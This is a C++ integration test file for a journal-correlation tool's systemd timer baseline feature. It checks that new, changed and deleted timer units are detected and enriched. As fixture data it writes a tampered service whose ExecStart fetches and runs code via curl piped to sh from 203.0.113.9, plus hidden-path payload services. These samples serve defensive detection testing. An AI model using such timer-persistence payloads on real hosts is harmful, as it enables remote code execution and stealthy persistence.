// The timer baseline through the real binary: `jcorr baseline scan` of a real unit tree,
// the tree changed, then `jcorr replay` with the optional baseline rules, --baseline and
// --host-root over journal entries of that host (and of another one); without a
// baseline the rules are left out with a clear warning. Then the daemon (`jcorr run`)
// enriching timer detections of its own host and evaluating a `changed` list against
// files changed while it runs.
#include <catch2/catch.hpp>

#include <sys/stat.h>

#include "integration/daemon/live_fixture.h"
#include "unit/baseline/temp_tree.h"

using namespace jcorr::test::daemon;
using jcorr::baseline::testing::TempTree;
using nlohmann::json;

namespace {

constexpr const char* kHostId = "a1b2c3d4e5f60718293a4b5c6d7e8f90";  // render_export's machine id
constexpr const char* kOtherId = "ffffffffffffffffffffffffffffffff";
constexpr long kT0 = 1700000000;

void write_unit(const TempTree& t, std::string_view path, std::string_view content) {
  t.write(path, content);
  t.set_mtime(path, kT0);
}

// backup, report (Unit=report-run.service) and clean: timers with their services.
void approved_tree(const TempTree& t) {
  t.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  t.write("/etc/group", "root:x:0:\n");
  t.write("/etc/machine-id", std::string(kHostId) + "\n");
  write_unit(t, "/etc/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\n");
  write_unit(t, "/etc/systemd/system/backup.service", "[Service]\nExecStart=/usr/bin/backup\n");
  write_unit(t, "/etc/systemd/system/report.timer", "[Timer]\nOnCalendar=weekly\nUnit=report-run.service\n");
  write_unit(t, "/etc/systemd/system/report-run.service", "[Service]\nExecStart=/usr/bin/report\n");
  write_unit(t, "/etc/systemd/system/clean.timer", "[Timer]\nOnCalendar=hourly\n");
  write_unit(t, "/etc/systemd/system/clean.service", "[Service]\nExecStart=/usr/bin/clean\n");
}

// After the baseline: backup.service runs a payload, report-run.service is deleted,
// evil.timer is new and its service is a symlink that points out of the root.
void drift(const TempTree& t, const std::string& outside_file) {
  t.write("/etc/systemd/system/backup.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'\n");
  std::filesystem::remove(t.host("/etc/systemd/system/report-run.service"));
  t.write("/etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=minutely\n");
  t.symlink("/etc/systemd/system/evil.service", outside_file);
}

std::string pid1_start(std::uint64_t t, const std::string& machine, const std::string& unit) {
  return json{{"__REALTIME_TIMESTAMP", std::to_string(t)},
              {"__CURSOR", "s=1;i=" + std::to_string(t)},
              {"_MACHINE_ID", machine},
              {"_HOSTNAME", machine == kHostId ? "web1" : "db1"},
              {"_BOOT_ID", "0f0e0d0c0b0a09080706050403020100"},
              {"_PID", "1"},
              {"_COMM", "systemd"},
              {"_TRANSPORT", "journal"},
              {"MESSAGE_ID", "39f53479d3a045ac8e11786248231fbf"},
              {"UNIT", unit},
              {"MESSAGE", "Started " + unit + "."}}
             .dump() +
         "\n";
}

struct Run {
  int rc = -1;
  std::string out;
  std::string err;
};

Run run(const std::string& args, const std::string& scratch) {
  const std::string err_file = scratch + "/stderr";
  Run r;
  r.out = run_capture(std::string(JCORR_BIN) + " " + args + " 2>'" + err_file + "'; echo \"rc=$?\"");
  const auto at = r.out.rfind("rc=");
  REQUIRE(at != std::string::npos);
  r.rc = std::stoi(r.out.substr(at + 3));
  r.out.resize(at);
  r.err = slurp(err_file);
  return r;
}

std::vector<json> lines(const std::string& text) {
  std::vector<json> out;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line))
    if (!line.empty()) out.push_back(json::parse(line));
  return out;
}

}  // namespace

TEST_CASE("baseline: replay with --baseline and --host-root finds new and changed timers and enriches them",
          "[baseline][replay]") {
  TempDir scratch;
  TempTree tree, outside;
  approved_tree(tree);
  const std::string root = tree.root().string();
  const std::string approved = scratch.path + "/approved.json";
  const Run scanned = run("baseline scan --root '" + root + "' > '" + approved + "'", scratch.path);
  REQUIRE(scanned.rc == 0);
  outside.write("/evil.service", "[Service]\nExecStart=/tmp/.x\n");
  drift(tree, outside.host("/evil.service").string());

  const std::string input = scratch.path + "/entries.json";
  spit(input, pid1_start(1700000100000000, kHostId, "clean.timer") + pid1_start(1700000101000000, kHostId, "backup.timer") +
                  pid1_start(1700000102000000, kHostId, "report.timer") +
                  pid1_start(1700000103000000, kHostId, "evil.timer") +
                  pid1_start(1700000104000000, kOtherId, "evil.timer"));
  const std::string rules = std::string(JCORR_SOURCE_DIR) + "/rules/t1053.006-baseline.json";

  SECTION("with both: one detection per finding, enriched for this host only") {
    const Run r = run("replay -q --no-progress -o json --rules '" + rules + "' --baseline '" + approved +
                          "' --host-root '" + root + "' '" + input + "'",
                      scratch.path);
    INFO(r.err);
    REQUIRE(r.rc == 0);
    const auto ds = lines(r.out);
    std::vector<std::string> got;
    for (const auto& d : ds) got.push_back(d["rule"].get<std::string>() + " " + d["summary"].get<std::string>());
    const std::vector<std::string> expected = {
        "t1053.006-timer-files-changed backup.timer started on web1 and its unit files differ from the approved baseline",
        "t1053.006-timer-files-changed report.timer started on web1 and its unit files differ from the approved baseline",
        "t1053.006-timer-not-in-baseline evil.timer started on web1 and is not in the approved baseline",
        "t1053.006-timer-not-in-baseline evil.timer started on db1 and is not in the approved baseline",
    };
    CHECK(got == expected);
    REQUIRE(ds.size() == 4);

    const json& backup = ds[0]["enrichment"];
    CHECK(backup["root"] == root);
    CHECK(backup["machine_id"] == kHostId);
    CHECK(backup["timers"][0]["baseline"] == "changed");
    CHECK(backup["timers"][0]["schedule"] == json{{"OnCalendar", {"daily"}}});
    CHECK(backup["timers"][0]["service"]["exec_start"] ==
          json::array({"/bin/sh -c 'curl -s http://203.0.113.9/x | sh'"}));
    CHECK(backup["timers"][0]["service"]["baseline"] == "changed");
    json risk_codes = json::array();
    for (const auto& x : backup["timers"][0]["risks"]) risk_codes.push_back(x["code"]);
    CHECK(risk_codes == json::array({"exec.download-and-run"}));

    const json& report = ds[1]["enrichment"]["timers"][0];
    CHECK(report["baseline"] == "changed");
    CHECK(report["service"]["unit"] == "report-run.service");
    CHECK(report["service"]["state"] == "not-found");
    CHECK(report["service"]["missing"] == "deleted");
    CHECK(report["service"]["baseline"] == "changed");

    const json& evil = ds[2]["enrichment"]["timers"][0];
    CHECK(evil["baseline"] == "new");
    CHECK(evil["service"]["state"] == "missing");  // its only file was skipped
    CHECK(evil["service"]["missing"] == "unreadable");
    CHECK(evil["problems"][0]["code"] == "fs.broken-symlink");
    CHECK(ds[2].dump().find("/tmp/.x") == std::string::npos);  // the file outside the root was not read

    CHECK_FALSE(ds[3].contains("enrichment"));  // another machine's detection
  }

  SECTION("the terminal view shows what the files say") {
    const Run r = run("replay -q --no-progress -o text --rules '" + rules + "' --baseline '" + approved +
                          "' --host-root '" + root + "' '" + input + "'",
                      scratch.path);
    REQUIRE(r.rc == 0);
    CHECK(r.out.find("  unit      backup.service (system, loaded; baseline changed)\n") != std::string::npos);
    CHECK(r.out.find("  runs      /bin/sh -c 'curl -s http://203.0.113.9/x | sh'\n") != std::string::npos);
    CHECK(r.out.find("  unit      report-run.service (system, not-found: deleted; baseline changed)\n") !=
          std::string::npos);
    CHECK(r.out.find("  problem   fs.broken-symlink /etc/systemd/system/evil.service: ") != std::string::npos);
  }

  SECTION("with --baseline only: the drift rule is left out, the other runs") {
    const Run r =
        run("replay -q --no-progress -o json --rules '" + rules + "' --baseline '" + approved + "' '" + input + "'",
            scratch.path);
    REQUIRE(r.rc == 0);
    CHECK(r.err.find("/lists/changed-units/baseline warning rule.baseline.missing: list \"changed-units\" is "
                     "unavailable: the \"changed\" list compares the host's unit files with a baseline: it needs both "
                     "(--baseline and --host-root); the rules using it are left out") != std::string::npos);
    const auto ds = lines(r.out);
    REQUIRE(ds.size() == 2);
    CHECK(ds[0]["rule"] == "t1053.006-timer-not-in-baseline");
    CHECK_FALSE(ds[0].contains("enrichment"));
  }

  SECTION("without a baseline the rules are left out, with the reason") {
    const Run r = run("replay -q --no-progress -o json --rules '" + rules + "' '" + input + "'", scratch.path);
    CHECK(r.rc == 3);
    CHECK(r.out.empty());
    CHECK(r.err.find("/lists/approved-timers/baseline warning rule.baseline.missing: list \"approved-timers\" comes "
                     "from a baseline and none was given") != std::string::npos);
    CHECK(r.err.find("[t1053.006-timer-not-in-baseline] warning rule.baseline.missing") != std::string::npos);
    CHECK(r.err.find("no rules found") != std::string::npos);
  }

  SECTION("the shipped pack still runs without a baseline") {
    const Run r = run("replay -q --no-progress -o json --rules '" + std::string(JCORR_SOURCE_DIR) + "/rules' '" +
                          input + "'",
                      scratch.path);
    CHECK(r.rc == 0);
    CHECK(r.err.find("rule.baseline.missing") != std::string::npos);
  }

  SECTION("an unreadable baseline file is a usage error") {
    spit(scratch.path + "/bad.json", "{\"schema\": \"nope\"}");
    const Run r = run("replay -q --rules '" + rules + "' --baseline '" + scratch.path + "/bad.json' '" + input + "'",
                      scratch.path);
    CHECK(r.rc == 2);
    CHECK(r.err.find("bad.json: not a jcorr baseline") != std::string::npos);
  }
}

TEST_CASE("baseline: the daemon enriches its own host's timer detections and sees files change while it runs",
          "[baseline][daemon]") {
  TempTree tree;
  approved_tree(tree);
  TempDir scratch;
  const std::string approved = scratch.path + "/approved.json";
  const Run scanned = run("baseline scan --root '" + tree.root().string() + "' > '" + approved + "'", scratch.path);
  REQUIRE(scanned.rc == 0);

  LiveDaemon d(",\n  \"baseline\": {\"file\": \"" + approved + "\", \"root\": \"" + tree.root().string() + "\"}");
  // Rules that name timers, added by a reload: every "timer" marker, and those whose
  // unit is in the baseline's changed list when the detection completes.
  spit(d.dir + "/rules/timer-rules.json", R"({
  "lists": {"changed-units": {"baseline": "changed"}},
  "events": {"marker": {"where": {"_TRANSPORT": "journal", "MESSAGE": {"prefix": "jcorr-test timer"}}, "capture": {"unit": "UNIT"}}},
  "rules": [
    {"id": "test-timer", "title": "timer marker", "severity": "low",
     "correlate": {"sequence": ["marker"]}, "values": {"timer": "marker.unit"}, "summary": "timer {marker.unit}"},
    {"id": "test-timer-changed", "title": "changed timer marker", "severity": "low",
     "correlate": {"sequence": ["marker"], "where": {"marker.unit": {"in_list": "changed-units"}}},
     "values": {"timer": "marker.unit"}, "summary": "changed {marker.unit}"}
  ]
})");
  d.process.signal(SIGHUP);
  REQUIRE(wait_for([&] { return d.process.log().find("reloaded: 4 rules") != std::string::npos; }, 10));

  // While it runs: backup.service gets a payload; report-run.service is deleted.
  tree.write("/etc/systemd/system/backup.service", "[Service]\nExecStart=/dev/shm/.u\nUser=nobody\n");
  std::filesystem::remove(tree.host("/etc/systemd/system/report-run.service"));
  std::this_thread::sleep_for(std::chrono::milliseconds(150));  // past the 100 ms rescan interval

  d.append_entries({{{"MESSAGE", "jcorr-test timer"}, {"UNIT", "backup.timer"}},
                    {{"MESSAGE", "jcorr-test timer"}, {"UNIT", "report.timer"}},
                    {{"MESSAGE", "jcorr-test timer"}, {"UNIT", "clean.timer"}}});
  const auto backup = d.wait_detection("test-timer", "timer backup.timer", 10);
  INFO(d.process.log());
  REQUIRE(backup.has_value());
  const json& t = (*backup)["enrichment"]["timers"][0];
  CHECK(t["unit"] == "backup.timer");
  CHECK(t["baseline"] == "changed");
  CHECK(t["service"]["exec_start"] == json::array({"/dev/shm/.u"}));
  CHECK(t["service"]["user"] == "nobody");

  REQUIRE(d.wait_detection("test-timer-changed", "changed backup.timer", 5).has_value());
  REQUIRE(d.wait_detection("test-timer-changed", "changed report.timer", 5).has_value());
  const auto clean = d.wait_detection("test-timer", "timer clean.timer", 5);
  REQUIRE(clean.has_value());
  CHECK((*clean)["enrichment"]["timers"][0]["baseline"] == "approved");
  // clean.timer came last and is unchanged: no "changed" detection for it.
  CHECK_FALSE(d.wait_detection("test-timer-changed", "changed clean.timer", 0.5).has_value());

  // Hostile files do not stop it: a looping symlink, a FIFO where a service belongs and
  // a 2 MiB unit file are reported as problems and the daemon goes on.
  tree.symlink("/etc/systemd/system/loop.timer", "/etc/systemd/system/loop.timer");
  tree.write("/etc/systemd/system/fifo.timer", "[Timer]\nOnCalendar=daily\n");
  REQUIRE(::mkfifo(tree.host("/etc/systemd/system/fifo.service").c_str(), 0644) == 0);
  tree.write("/etc/systemd/system/huge.timer", "[Timer]\n" + std::string(2u << 20, '#'));
  std::this_thread::sleep_for(std::chrono::milliseconds(150));
  d.append_entries({{{"MESSAGE", "jcorr-test timer"}, {"UNIT", "loop.timer"}},
                    {{"MESSAGE", "jcorr-test timer"}, {"UNIT", "fifo.timer"}},
                    {{"MESSAGE", "jcorr-test timer"}, {"UNIT", "huge.timer"}}});
  const auto loop = d.wait_detection("test-timer", "timer loop.timer", 10);
  const auto fifo = d.wait_detection("test-timer", "timer fifo.timer", 10);
  const auto huge = d.wait_detection("test-timer", "timer huge.timer", 10);
  REQUIRE(loop.has_value());
  REQUIRE(fifo.has_value());
  REQUIRE(huge.has_value());
  CHECK((*loop)["enrichment"]["timers"][0]["problems"][0]["code"] == "fs.symlink-loop");
  CHECK((*fifo)["enrichment"]["timers"][0]["problems"][0]["code"] == "fs.not-regular");
  CHECK((*huge)["enrichment"]["timers"][0]["problems"][0]["code"] == "fs.too-large");
  CHECK(d.process.running());

  // Eight detections name a timer of this host: six markers, two of them changed.
  CHECK(metric(d.scrape(), "jcorr_detections_enriched_total") == 8.0);
  CHECK(d.process.terminate() == 0);
}

TEST_CASE("baseline: the daemon's baseline configuration is checked before it starts", "[baseline][daemon]") {
  TempDir tmp;
  TempTree tree;
  approved_tree(tree);
  const std::string rules = std::string(JCORR_SOURCE_DIR) + "/rules";

  spit(tmp.path + "/bad.json", R"({"follow": {"directory": "."},
  "baseline": {"file": "", "enrich": "yes", "rescan_interval": "soon", "roots": "/"}})");
  const Run bad = run("run --check --config '" + tmp.path + "/bad.json'", tmp.path);
  const std::string bad_log = bad.out + bad.err;
  INFO(bad_log);
  CHECK(bad.rc == 2);
  CHECK(bad_log.find("/baseline/file") != std::string::npos);
  CHECK(bad_log.find("/baseline/enrich error config.type.mismatch") != std::string::npos);
  CHECK(bad_log.find("/baseline/rescan_interval error config.value.invalid") != std::string::npos);
  CHECK(bad_log.find("/baseline/roots error config.key.unknown") != std::string::npos);

  spit(tmp.path + "/missing.json", R"({"follow": {"directory": "."}, "rules": ")" + rules +
                                       R"(", "baseline": {"file": "nowhere.json"}})");
  const Run missing = run("run --check --config '" + tmp.path + "/missing.json'", tmp.path);
  const std::string missing_log = missing.out + missing.err;
  INFO(missing_log);
  CHECK(missing.rc == 3);
  CHECK(missing_log.find("baseline: " + tmp.path + "/nowhere.json") != std::string::npos);

  const Run scanned = run("baseline scan --root '" + tree.root().string() + "' > '" + tmp.path + "/approved.json'",
                          tmp.path);
  REQUIRE(scanned.rc == 0);
  spit(tmp.path + "/ok.json", R"({"follow": {"directory": "."}, "rules": ")" + rules +
                                  R"(", "baseline": {"file": "approved.json", "root": ")" + tree.root().string() +
                                  R"("}})");
  const Run ok = run("run --check --config '" + tmp.path + "/ok.json'", tmp.path);
  const std::string ok_log = ok.out + ok.err;
  INFO(ok_log);
  CHECK(ok.rc == 0);
  CHECK(ok_log.find("rule.baseline.missing") == std::string::npos);  // both baseline rules load
  CHECK(ok_log.find("configuration and 9 rules are valid") != std::string::npos);
}
